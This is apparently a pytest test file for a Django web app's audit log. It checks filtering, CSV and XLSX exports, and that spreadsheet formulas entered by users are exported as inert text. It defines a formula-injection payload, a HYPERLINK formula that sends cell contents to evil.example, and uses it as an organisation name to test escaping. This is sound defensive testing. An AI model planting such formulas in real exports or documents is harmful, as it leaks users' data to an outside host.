"""The coordinator filters the audit log and downloads it; spreadsheet formulas in what
people typed stay text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from greencluster.core.tables import read_table
from greencluster.web.accounts.permissions import viewer_for
from greencluster.web.common.exports import table_export
from greencluster.web.registry import services
from tests.web.factories import PASSWORD

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def logged(client, world):
    viewer = viewer_for(world.coordinator)
    services.organisation_create(
        viewer=viewer, cluster=world.cluster, name="Hakevoima Oy", country="FI", org_type="company"
    )
    services.organisation_create(
        viewer=viewer, cluster=world.cluster, name=FORMULA, country="FI", org_type="company"
    )
    services.cluster_update(
        viewer=viewer,
        cluster=world.cluster,
        language="en",
        description="Heat",
        strategy="",
        contact_name="",
        contact_email="",
        website="",
    )
    client.login(username="coord", password=PASSWORD)
    return client


def csv_rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_log_filters_by_action_and_object(logged):
    page = logged.get("/clusters/heat/audit/", {"action": "organisation.create"})
    assert page.status_code == 200
    text = page.content.decode()
    assert "Hakevoima Oy" in text and "cluster.update" not in text
    rows = csv_rows(logged.get("/clusters/heat/audit.csv", {"text": "hakevoima"}))
    assert [r["object"] for r in rows] == ["Hakevoima Oy"]
    assert rows[0]["actor"] == "coord" and rows[0]["action"] == "organisation.create"
    everything = csv_rows(logged.get("/clusters/heat/audit.csv"))
    assert {r["action"] for r in everything} >= {"organisation.create", "cluster.update"}
    tomorrow = csv_rows(logged.get("/clusters/heat/audit.csv", {"since": "2999-01-01"}))
    assert tomorrow == []


def test_a_bad_filter_is_refused_clearly(logged):
    response = logged.get("/clusters/heat/audit.csv", {"since": "yesterday"})
    assert response.status_code == 400
    assert b"since" in response.content


def test_exports_keep_formulas_as_text(logged):
    rows = csv_rows(logged.get("/clusters/heat/audit.csv", {"action": "organisation.create"}))
    assert "'" + FORMULA in [r["object"] for r in rows]
    workbook = load_workbook(
        io.BytesIO(logged.get("/clusters/heat/audit.xlsx", {"action": "organisation"}).content)
    )
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_an_escaped_export_reads_back_unchanged():
    rows = [{"name": FORMULA, "note": "-5 % less", "plain": "Puuhake"}, {"name": "@sum"}]
    columns = ("name", "note", "plain")
    table = read_table(table_export(columns, rows, "csv"), fmt="csv")
    assert [r.values for r in table.records] == [
        {"name": FORMULA, "note": "-5 % less", "plain": "Puuhake"},
        {"name": "@sum", "note": "", "plain": ""},
    ]
    xlsx = read_table(table_export(columns, rows, "xlsx"), fmt="xlsx")
    assert xlsx.records[0].values["name"] == FORMULA
